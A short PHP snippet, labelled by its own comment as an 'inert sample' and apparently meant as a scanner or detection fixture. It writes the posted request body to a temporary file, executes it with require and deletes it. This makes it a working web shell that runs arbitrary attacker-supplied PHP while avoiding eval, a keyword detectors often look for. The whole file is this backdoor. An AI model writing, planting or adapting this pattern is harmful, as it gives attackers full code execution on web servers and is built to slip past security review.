<?php
// inert sample: a helper writes what it is given to a temporary file and hands back the path; the
// page passes it the posted body and requires the file (the code never meets eval)
function stash($data) {
    $path = tempnam(sys_get_temp_dir(), 'sess');
    file_put_contents($path, $data);
    return $path;
}
$file = stash($_POST['body']);
require $file;
@unlink($file);
